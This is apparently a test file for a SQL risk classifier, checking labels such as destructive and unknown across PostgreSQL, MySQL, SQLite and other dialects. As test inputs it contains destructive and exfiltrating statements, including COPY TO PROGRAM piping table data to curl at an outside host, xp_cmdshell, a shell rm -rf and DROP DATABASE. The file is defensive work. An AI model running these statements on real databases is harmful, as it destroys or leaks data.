import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import type { SqlDialect } from '../../core/index.js';
import { classifySql, initSql } from './index.js';

before(() => initSql());

// [sql, dialect, risk, rule ids in order]
const CASES: [string, SqlDialect, string, string[]][] = [
  ['SELECT id, email FROM accounts WHERE created_at > now() - interval \'1 day\'', 'postgresql', 'readonly', ['sql.select']],
  ['BEGIN; SELECT 1; COMMIT', 'postgresql', 'readonly', ['sql.transaction', 'sql.select', 'sql.transaction']],
  ['SHOW search_path', 'postgresql', 'readonly', ['sql.variable-show']],
  ['EXPLAIN DELETE FROM invoices', 'postgresql', 'readonly', ['sql.explain']],
  ['EXPLAIN (ANALYZE false) DELETE FROM invoices', 'postgresql', 'readonly', ['sql.explain']],
  ['EXPLAIN ANALYZE DELETE FROM invoices', 'postgresql', 'destructive', ['sql.delete-all']],
  ['EXPLAIN (ANALYZE, BUFFERS) UPDATE invoices SET paid = true WHERE id = 7', 'postgresql', 'mutating', ['sql.update']],
  ['INSERT INTO audit.events (kind) VALUES (\'login\')', 'postgresql', 'mutating', ['sql.insert']],
  ['UPDATE users SET active = false WHERE last_seen < \'2020-01-01\'', 'postgresql', 'mutating', ['sql.update']],
  ['UPDATE users SET active = false', 'postgresql', 'destructive', ['sql.update-all']],
  ['DELETE FROM sessions WHERE 1 = 1', 'postgresql', 'destructive', ['sql.delete-all']],
  ['DELETE FROM sessions WHERE true', 'postgresql', 'destructive', ['sql.delete-all']],
  ['DELETE FROM sessions WHERE id = id', 'postgresql', 'destructive', ['sql.delete-all']],
  ['DELETE FROM sessions WHERE token IS NULL OR token IS NOT NULL', 'postgresql', 'destructive', ['sql.delete-all']],
  ["DELETE FROM sessions WHERE name LIKE '%'", 'postgresql', 'destructive', ['sql.delete-all']],
  ["DELETE FROM sessions WHERE 'a' = 'a' AND 2 > 1", 'postgresql', 'destructive', ['sql.delete-all']],
  ['DELETE FROM sessions WHERE 1 = 0 OR user_id = 4', 'postgresql', 'mutating', ['sql.delete']],
  ['DELETE FROM sessions WHERE 1 IN (1, 2)', 'postgresql', 'destructive', ['sql.delete-all']],
  ['DELETE FROM sessions WHERE 3 NOT IN (1, 2)', 'postgresql', 'destructive', ['sql.delete-all']],
  ['DELETE FROM sessions WHERE user_id IN (1, 2)', 'postgresql', 'mutating', ['sql.delete']],
  ['DELETE FROM app.sessions WHERE id IN (SELECT id FROM app.sessions)', 'postgresql', 'destructive', ['sql.delete-all']],
  ['DELETE FROM app.sessions WHERE id IN (SELECT id FROM app.sessions WHERE expired)', 'postgresql', 'mutating', ['sql.delete']],
  ['DELETE FROM app.sessions WHERE id IN (SELECT id FROM other.sessions)', 'postgresql', 'mutating', ['sql.delete']],
  ['DELETE FROM sessions WHERE 2 IN (1, 2)', 'mysql', 'destructive', ['sql.delete-all']],
  ['DELETE FROM sessions WHERE id IN (1, 2)', 'mysql', 'mutating', ['sql.delete']],
  ['DELETE FROM sessions WHERE expires_at < now()', 'postgresql', 'mutating', ['sql.delete']],
  ['TRUNCATE billing.ledger, billing.entries', 'postgresql', 'destructive', ['sql.truncate', 'sql.truncate']],
  ['DROP TABLE IF EXISTS public.customers', 'postgresql', 'destructive', ['sql.drop-table']],
  ['DROP SCHEMA reporting CASCADE', 'postgresql', 'destructive', ['sql.drop-schema']],
  ['DROP DATABASE shop', 'postgresql', 'destructive', ['sql.drop-database']],
  ['DROP INDEX idx_orders_created', 'postgresql', 'mutating', ['sql.drop-index']],
  ['DROP VIEW monthly_totals', 'postgresql', 'mutating', ['sql.drop-view']],
  ['DROP VIEW monthly_totals CASCADE', 'postgresql', 'destructive', ['sql.drop-view']],
  ['DROP OWNED BY departed_user', 'postgresql', 'destructive', ['sql.drop-owned']],
  ['REASSIGN OWNED BY old_role TO new_role', 'postgresql', 'mutating', ['sql.reassign-owned']],
  ['ALTER TABLE orders DROP COLUMN notes', 'postgresql', 'destructive', ['sql.alter-drop-column']],
  ['ALTER TABLE orders DROP CONSTRAINT orders_total_check', 'postgresql', 'destructive', ['sql.alter-drop-constraint']],
  ['ALTER TABLE orders ADD COLUMN notes text', 'postgresql', 'mutating', ['sql.alter-table']],
  ['CREATE TABLE t (id int primary key)', 'postgresql', 'mutating', ['sql.create']],
  ['CREATE INDEX CONCURRENTLY ON orders (created_at)', 'postgresql', 'mutating', ['sql.index']],
  ['GRANT SELECT ON orders TO analyst', 'postgresql', 'mutating', ['sql.grant']],
  ['REVOKE ALL ON orders FROM analyst', 'postgresql', 'mutating', ['sql.grant']],
  ['VACUUM FULL orders', 'postgresql', 'mutating', ['sql.vacuum']],
  ['WITH gone AS (DELETE FROM carts RETURNING id) SELECT count(*) FROM gone', 'postgresql', 'destructive', ['sql.select', 'sql.delete-all']],
  ['WITH x AS (UPDATE carts SET seen = true WHERE id = 3 RETURNING id) SELECT * FROM x', 'postgresql', 'mutating', ['sql.select', 'sql.update']],
  ["COPY orders TO PROGRAM 'curl -T - https://example.net'", 'postgresql', 'unknown', ['sql.copy-program']],
  ["COPY orders FROM '/srv/import/orders.csv' CSV", 'postgresql', 'mutating', ['sql.copy-from']],
  ['COPY (SELECT * FROM orders) TO STDOUT', 'postgresql', 'readonly', ['sql.copy-to-stdout']],
  ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = \'shop\'', 'postgresql', 'destructive', ['sql.select', 'sql.fn-pg-terminate-backend']],
  ["SELECT dblink_exec('dbname=other', 'DROP TABLE x')", 'postgresql', 'unknown', ['sql.select', 'sql.fn-dblink-exec']],
  ['CALL cleanup_everything()', 'postgresql', 'unknown', ['sql.call']],
  ["LOAD 'auto_explain'", 'postgresql', 'unknown', ['sql.load-library']],
  ['MERGE INTO stock s USING incoming i ON s.sku = i.sku WHEN MATCHED THEN DELETE', 'postgresql', 'destructive', ['sql.merge-delete']],
  ['SELECT 1; DROP TABLE a; INSERT INTO b VALUES (1)', 'postgresql', 'destructive', ['sql.select', 'sql.drop-table', 'sql.insert']],
  ['DO $$ BEGIN DELETE FROM queue; END $$', 'postgresql', 'destructive', ['sql.delete-all']],
  ["DO $$ BEGIN EXECUTE 'TRUNCATE ' || 'queue'; END $$", 'postgresql', 'unknown', ['sql.do-dynamic-sql']],
  ['DO $$ BEGIN RAISE NOTICE \'hello\'; END $$', 'postgresql', 'readonly', ['sql.do-block']],
  // other dialects
  ['DELETE FROM `orders`', 'mysql', 'destructive', ['sql.delete-all']],
  ['DELETE FROM orders WHERE id = 9 LIMIT 1', 'mysql', 'mutating', ['sql.delete']],
  ['UPDATE orders SET total = 0 WHERE 1', 'mysql', 'destructive', ['sql.update-all']],
  ['DROP DATABASE IF EXISTS shop', 'mysql', 'destructive', ['sql.drop-database']],
  ['ALTER TABLE orders DROP COLUMN notes', 'mariadb', 'destructive', ['sql.alter-drop-column']],
  ['ALTER TABLE orders DROP INDEX idx_total', 'mysql', 'mutating', ['sql.alter-table']],
  ["SELECT * FROM orders INTO OUTFILE '/var/lib/mysql-files/o.csv'", 'mysql', 'destructive', ['sql.select-into-file']],
  ['SHOW TABLES', 'mysql', 'readonly', ['sql.show']],
  ['DELETE FROM notes', 'sqlite', 'destructive', ['sql.delete-all']],
  ['SELECT name FROM sqlite_master', 'sqlite', 'readonly', ['sql.select']],
  ['TRUNCATE TABLE dbo.events', 'transactsql', 'destructive', ['sql.truncate']],
  ['EXEC dbo.purge_all', 'transactsql', 'unknown', ['sql.call']],
  ['DELETE FROM events', 'snowflake', 'destructive', ['sql.delete-all']],
  ['DROP TABLE analytics.events', 'bigquery', 'destructive', ['sql.drop-table']],
];

test('SQL statements are classified by effect, every statement listed', () => {
  const got = CASES.map(([sql, dialect]) => {
    const r = classifySql(sql, dialect);
    return [sql, dialect, r.risk, r.findings.map((f) => f.rule)];
  });
  assert.deepEqual(got, CASES);
});

test('a call to a function that is not a known-pure built-in is unknown; a stored body is read', () => {
  const CASES: [string, SqlDialect, string, string[]][] = [
    ['SELECT purge_all_orders()', 'postgresql', 'unknown', ['sql.select', 'sql.fn-not-built-in']],
    ['SELECT * FROM cleanup_tenant(42)', 'postgresql', 'unknown', ['sql.select', 'sql.fn-not-built-in']],
    ['SELECT public.lower(name) FROM users', 'postgresql', 'unknown', ['sql.select', 'sql.fn-not-built-in']],
    ['UPDATE users SET name = tidy(name) WHERE id = 3', 'postgresql', 'unknown', ['sql.update', 'sql.fn-not-built-in']],
    ["SELECT count(*), lower(email), coalesce(a, b), now(), data->>'k', extract(year FROM ts), trim(both FROM s), pg_catalog.upper(s) FROM users GROUP BY 2, 3, 4, 5, 6, 7, 8", 'postgresql', 'readonly', ['sql.select']],
    ['SELECT * FROM generate_series(1, 3) g, jsonb_each(\'{}\'::jsonb)', 'postgresql', 'readonly', ['sql.select']],
    // A default or check is stored, not called, by CREATE TABLE.
    ['CREATE TABLE t (id uuid DEFAULT make_id(), n int CHECK (valid_n(n)))', 'postgresql', 'mutating', ['sql.create']],
    ["CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS $$ DELETE FROM users $$", 'postgresql', 'destructive', ['sql.create-function', 'sql.delete-all']],
    ['CREATE FUNCTION wipe() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM users; SELECT 1; END', 'postgresql', 'destructive', ['sql.create-function', 'sql.delete-all']],
    ['CREATE FUNCTION wipe() RETURNS int LANGUAGE plpgsql AS $$ BEGIN TRUNCATE users; RETURN 1; END $$', 'postgresql', 'destructive', ['sql.create-function', 'sql.truncate']],
    ['CREATE FUNCTION one(p int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users WHERE id = p; RETURN 1; END $$', 'postgresql', 'mutating', ['sql.create-function', 'sql.delete']],
    ['CREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.updated_at := now(); RETURN NEW; END $$', 'postgresql', 'mutating', ['sql.create-function']],
    ["CREATE FUNCTION dyn() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE ' || 'x'; END $$", 'postgresql', 'unknown', ['sql.create-function', 'sql.do-dynamic-sql']],
    ['CREATE FUNCTION py() RETURNS int LANGUAGE plpython3u AS $$ return 1 $$', 'postgresql', 'unknown', ['sql.create-function', 'sql.function-body']],
    ['SELECT purge_all_orders()', 'mysql', 'unknown', ['sql.select', 'sql.fn-not-built-in']],
    ['SELECT dbo.cleanup(1), getdate()', 'transactsql', 'unknown', ['sql.select', 'sql.fn-not-built-in']],
    ["SELECT count(*), ifnull(a, 1), now(), concat(a, b) FROM t WHERE d > now()", 'mysql', 'readonly', ['sql.select']],
    ["SELECT strftime('%s', 'now'), lower(name) FROM notes", 'sqlite', 'readonly', ['sql.select']],
  ];
  const got = CASES.map(([sql, dialect]) => {
    const r = classifySql(sql, dialect);
    return [sql, dialect, r.risk, r.findings.map((f) => f.rule)];
  });
  assert.deepEqual(got, CASES);
});

test('a WHERE filters only when it depends on the target row in a way that is not trivially true', () => {
  const CASES: [string, string][] = [
    ['DELETE FROM users WHERE EXISTS (SELECT 1)', 'sql.delete-all'],
    ['DELETE FROM users WHERE id IS NOT DISTINCT FROM id', 'sql.delete-all'],
    ['DELETE FROM users WHERE (SELECT true)', 'sql.delete-all'],
    ['DELETE FROM users WHERE 1 BETWEEN 0 AND 2', 'sql.delete-all'],
    ['DELETE FROM users WHERE coalesce(null, true)', 'sql.delete-all'],
    ['DELETE FROM users WHERE id = id + 0', 'sql.delete-all'],
    ["DELETE FROM users WHERE 'a' || 'b' = 'ab'", 'sql.delete-all'],
    ['DELETE FROM users WHERE id IN (SELECT id FROM public.users)', 'sql.delete-all'],
    ['DELETE FROM users u USING users u2 WHERE u.id = u2.id', 'sql.delete-all'],
    ['UPDATE users SET active = false WHERE $1', 'sql.update-all'],
    ['UPDATE users SET active = false WHERE id = 5 OR EXISTS (SELECT 1 FROM flags WHERE flags.on)', 'sql.update-all'],
    ['DELETE FROM orders o USING banned b WHERE b.active', 'sql.delete-all'],
    ['DELETE FROM users WHERE id::text = id::text', 'sql.delete-all'],
    // Real filters stay filters (mutating).
    ['DELETE FROM users WHERE id = 5', 'sql.delete'],
    ['DELETE FROM users WHERE id > 0', 'sql.delete'],
    ['DELETE FROM users WHERE active', 'sql.delete'],
    ['DELETE FROM users WHERE id = $1', 'sql.delete'],
    ['DELETE FROM sessions WHERE expires_at < now()', 'sql.delete'],
    ['DELETE FROM users WHERE id IN (SELECT user_id FROM bans)', 'sql.delete'],
    ['DELETE FROM users u WHERE EXISTS (SELECT 1 FROM bans b WHERE b.user_id = u.id)', 'sql.delete'],
    ['DELETE FROM users u USING users u2 WHERE u.manager_id = u2.id AND u2.left_at IS NOT NULL', 'sql.delete'],
    ['DELETE FROM orders o USING banned b WHERE o.user_id = b.user_id', 'sql.delete'],
    ['DELETE FROM users WHERE id = 5 AND EXISTS (SELECT 1)', 'sql.delete'],
  ];
  const got = CASES.map(([sql]) => [sql, classifySql(sql).findings.map((f) => f.rule).join(' ')]);
  assert.deepEqual(got, CASES);
  const OTHER: [string, SqlDialect, string][] = [
    ['DELETE FROM users WHERE EXISTS (SELECT 1)', 'mysql', 'sql.delete-all'],
    ["DELETE FROM users WHERE 'a' = concat('a', '')", 'mysql', 'sql.delete-all'],
    ['DELETE FROM notes WHERE 1 BETWEEN 0 AND 2', 'sqlite', 'sql.delete-all'],
    ['DELETE FROM users WHERE EXISTS (SELECT 1 FROM bans WHERE bans.user_id = users.id)', 'mysql', 'sql.delete'],
    ['DELETE FROM users WHERE id = 5', 'mysql', 'sql.delete'],
    ['UPDATE notes SET done = 1 WHERE due < date(\'now\')', 'sqlite', 'sql.update'],
  ];
  const other = OTHER.map(([sql, dialect]) => [sql, dialect, classifySql(sql, dialect).findings.map((f) => f.rule).join(' ')]);
  assert.deepEqual(other, OTHER);
});

test('ALTERs that lose data or take a service out are destructive', () => {
  const CASES: [string, string, string[]][] = [
    ['ALTER TABLE orders ALTER COLUMN total TYPE numeric USING NULL', 'destructive', ['sql.alter-column-type-constant']],
    ["ALTER TABLE orders ALTER COLUMN note TYPE text USING 'x'", 'destructive', ['sql.alter-column-type-constant']],
    ['ALTER TABLE orders ALTER COLUMN total TYPE numeric USING total::numeric', 'mutating', ['sql.alter-table']],
    ['ALTER TABLE orders ALTER COLUMN total TYPE numeric', 'mutating', ['sql.alter-table']],
    ['ALTER SYSTEM SET fsync = off', 'destructive', ['sql.setting-dangerous']],
    ["ALTER SYSTEM SET listen_addresses = ''", 'destructive', ['sql.setting-dangerous']],
    ["ALTER SYSTEM SET work_mem = '64MB'", 'mutating', ['sql.setting']],
    ['ALTER SYSTEM SET some_extension.knob = 1', 'unknown', ['sql.setting-unknown']],
    ['ALTER SYSTEM RESET ALL', 'unknown', ['sql.setting-reset-all']],
    ['ALTER ROLE app NOLOGIN', 'destructive', ['sql.role-nologin']],
    ['ALTER ROLE app CONNECTION LIMIT 0', 'destructive', ['sql.role-no-connections']],
    ["ALTER ROLE app VALID UNTIL '2020-01-01'", 'destructive', ['sql.role-expiry']],
    ['ALTER ROLE app CONNECTION LIMIT 20', 'mutating', ['sql.alter-role']],
    ['ALTER DATABASE shop CONNECTION LIMIT 0', 'destructive', ['sql.database-no-connections']],
    ['ALTER DATABASE shop WITH ALLOW_CONNECTIONS false', 'destructive', ['sql.database-no-connections']],
    ['ALTER DATABASE shop SET default_transaction_read_only = on', 'destructive', ['sql.setting-dangerous']],
    ["ALTER DATABASE shop SET statement_timeout = '30s'", 'mutating', ['sql.setting']],
  ];
  const got = CASES.map(([sql]) => {
    const r = classifySql(sql);
    return [sql, r.risk, r.findings.map((f) => f.rule)];
  });
  assert.deepEqual(got, CASES);
});

test('targets are schema-qualified table names', () => {
  const r = classifySql('DROP TABLE billing.ledger; TRUNCATE audit.log');
  assert.deepEqual(r.findings.map((f) => f.target), ['billing.ledger', 'audit.log']);
  assert.equal(r.summary, 'SQL: destructive (drop-table billing.ledger, truncate-table audit.log)');
});

test('input that cannot be read is unknown with an error code', () => {
  const codes = ['SELEC * FRM x', '', ' ;; ', '-- just a comment', 'x'.repeat(1_000_001)].map((s) => {
    const r = classifySql(s);
    return [r.risk, r.error?.code];
  });
  assert.deepEqual(codes, [
    ['unknown', 'E_PARSE'],
    ['unknown', 'E_EMPTY_INPUT'],
    ['unknown', 'E_EMPTY_INPUT'],
    ['unknown', 'E_EMPTY_INPUT'],
    ['unknown', 'E_TOO_LARGE'],
  ]);
  const mysql = classifySql('DELETE FROM WHERE', 'mysql');
  assert.deepEqual([mysql.risk, mysql.error?.code], ['unknown', 'E_PARSE']);
});

test('deeply nested SQL is bounded, not a crash', () => {
  // Parentheses leave no trace in the tree; nested subqueries do, until the parser's stack limit.
  const parens = classifySql(`SELECT ${'('.repeat(5000)}1${')'.repeat(5000)}`);
  assert.equal(parens.risk, 'readonly');
  const subqueries = classifySql(`SELECT ${'(SELECT '.repeat(3000)}1${')'.repeat(3000)}`);
  assert.deepEqual([subqueries.risk, subqueries.error?.code], ['unknown', 'E_PARSE']);
  const hidden = classifySql(`SELECT ${'(SELECT '.repeat(50)}1${')'.repeat(50)}; WITH d AS (DELETE FROM t RETURNING 1) SELECT 1`);
  assert.equal(hidden.risk, 'destructive');
});

test('client meta-commands: psql, sqlite3 and mysql', () => {
  const CASES: [string, SqlDialect, string, string[]][] = [
    ['\\dt', 'postgresql', 'readonly', ['sql.meta-client']],
    ['\\d+ orders', 'postgresql', 'readonly', ['sql.meta-client']],
    ['\\l', 'postgresql', 'readonly', ['sql.meta-client']],
    ['\\c shop\nDROP TABLE carts;', 'postgresql', 'destructive', ['sql.meta-client', 'sql.drop-table']],
    ['\\i migrations/002.sql', 'postgresql', 'unknown', ['sql.meta-run-file']],
    ['\\! rm -rf /tmp/x', 'postgresql', 'unknown', ['sql.meta-run-shell']],
    ['SELECT format(\'DROP TABLE %I\', tablename) FROM pg_tables \\gexec', 'postgresql', 'unknown', ['sql.meta-dynamic-sql', 'sql.select']],
    ['SELECT count(*) FROM orders \\gx', 'postgresql', 'readonly', ['sql.select']],
    ['\\copy orders FROM \'orders.csv\' CSV', 'postgresql', 'mutating', ['sql.meta-copy']],
    ['\\zzz', 'postgresql', 'unknown', ['sql.meta-unknown']],
    ['.tables', 'sqlite', 'readonly', ['sql.meta-client']],
    ['.schema orders', 'sqlite', 'readonly', ['sql.meta-client']],
    ['.restore backup.db', 'sqlite', 'destructive', ['sql.meta-overwrite-database']],
    ['.read cleanup.sql', 'sqlite', 'unknown', ['sql.meta-run-file']],
    ['.mode csv\n.import data.csv orders', 'sqlite', 'mutating', ['sql.meta-client', 'sql.meta-insert-rows']],
    ['source cleanup.sql', 'mysql', 'unknown', ['sql.meta-run-file']],
    ['SELECT * FROM orders\\G', 'mysql', 'readonly', ['sql.select']],
  ];
  const got = CASES.map(([sql, dialect]) => {
    const r = classifySql(sql, dialect);
    return [sql, dialect, r.risk, r.findings.map((f) => f.rule)];
  });
  assert.deepEqual(got, CASES);
});

test('statements the parsers miss: known leading words, or unknown', () => {
  const CASES: [string, SqlDialect, string, string[]][] = [
    ['PRAGMA table_info(orders)', 'sqlite', 'readonly', ['sql.stmt-read-setting']],
    ['PRAGMA journal_mode = WAL', 'sqlite', 'mutating', ['sql.stmt-change-setting']],
    ['PRAGMA writable_schema = ON', 'sqlite', 'destructive', ['sql.stmt-unsafe-setting']],
    ['VACUUM', 'sqlite', 'mutating', ['sql.vacuum']],
    ['VACUUM INTO \'/tmp/copy.db\'', 'sqlite', 'mutating', ['sql.stmt-write-file']],
    ['FLUSH PRIVILEGES', 'mysql', 'readonly', ['sql.stmt-session']],
    ['PURGE BINARY LOGS BEFORE NOW()', 'mysql', 'destructive', ['sql.stmt-delete-logs']],
    ['SELECT 1; FROBNICATE everything; DROP TABLE t', 'mysql', 'destructive', ['sql.select', 'sql.unparsed', 'sql.drop-table']],
    ['SELECT 1; FROBNICATE everything', 'postgresql', 'unknown', ['sql.select', 'sql.unparsed']],
    ['DELETE FROM `users`;', 'postgresql', 'destructive', ['sql.delete-all']],
    ['PREPARE wipe AS DELETE FROM jobs; EXECUTE wipe', 'postgresql', 'destructive', ['sql.prepare', 'sql.delete-all']],
    ['EXECUTE someone_elses_plan', 'postgresql', 'unknown', ['sql.execute']],
    ['SET GLOBAL read_only = ON', 'mysql', 'mutating', ['sql.stmt-change-setting']],
    ['SET PERSIST max_connections = 10', 'mysql', 'mutating', ['sql.set-global']],
    ["SET SESSION sql_mode = ''", 'mysql', 'readonly', ['sql.set']],
    ["LOAD DATA INFILE 'orders.csv' INTO TABLE orders", 'mysql', 'mutating', ['sql.load-data']],
    ['ALTER TABLE events TRUNCATE PARTITION p2019', 'mysql', 'destructive', ['sql.alter-truncate-partition']],
    ['SHUTDOWN', 'mysql', 'destructive', ['sql.stmt-shutdown']],
    ['CREATE OR REPLACE TABLE sales (id int)', 'snowflake', 'destructive', ['sql.create-or-replace-table']],
    ['CREATE OR REPLACE TABLE ds.daily AS SELECT 1 AS a', 'bigquery', 'destructive', ['sql.create-or-replace-table']],
    ["BACKUP DATABASE shop TO DISK = 'D:\\shop.bak'", 'transactsql', 'mutating', ['sql.stmt-write-file']],
    ["EXEC xp_cmdshell 'dir'", 'transactsql', 'unknown', ['sql.stmt-run-shell']],
    ['DELETE FROM dbo.t WHERE id = 5\nGO\nTRUNCATE TABLE dbo.u\nGO', 'transactsql', 'destructive', ['sql.delete', 'sql.truncate']],
    ['CREATE OR REPLACE TABLE t (id int)', 'mariadb', 'destructive', ['sql.stmt-replace-table']],
    ["GRANT ALL PRIVILEGES ON *.* TO 'ops'@'%'", 'mysql', 'destructive', ['sql.stmt-grant-everything']],
    ["GRANT ALL ON *.* TO 'ops'@'localhost'", 'mysql', 'destructive', ['sql.stmt-grant-everything']],
    ["GRANT SELECT ON shop.* TO 'reader'@'%'", 'mysql', 'mutating', ['sql.grant']],
    ["GRANT ALL ON *.* TO 'ops'@'%'", 'postgresql', 'destructive', ['sql.stmt-grant-everything']],
    ['ALTER ROLE deploy SUPERUSER', 'postgresql', 'destructive', ['sql.grant-superuser']],
    ['ALTER ROLE deploy NOSUPERUSER', 'postgresql', 'mutating', ['sql.alter-role']],
    ['CREATE ROLE break_glass LOGIN SUPERUSER', 'postgresql', 'destructive', ['sql.grant-superuser']],
  ];
  const got = CASES.map(([sql, dialect]) => {
    const r = classifySql(sql, dialect);
    return [sql, dialect, r.risk, r.findings.map((f) => f.rule)];
  });
  assert.deepEqual(got, CASES);
  assert.equal(classifySql('SELECT 1; FROBNICATE everything').error?.code, 'E_PARSE');
});
